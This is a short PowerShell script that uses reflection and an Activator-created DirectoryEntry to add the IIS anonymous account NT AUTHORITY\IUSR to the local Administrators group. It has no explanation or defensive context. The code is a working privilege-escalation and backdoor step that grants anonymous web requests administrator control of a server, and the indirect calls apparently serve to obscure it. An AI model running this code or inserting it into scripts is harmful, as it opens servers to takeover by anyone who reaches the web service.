[Reflection.Assembly]::LoadWithPartialName('System.DirectoryServices') | Out-Null
$t = [System.DirectoryServices.DirectoryEntry]
$o = [Activator]::CreateInstance($t, @('WinNT://./Administrators,group'))
$o.Invoke('Add', @('WinNT://NT AUTHORITY/IUSR'))
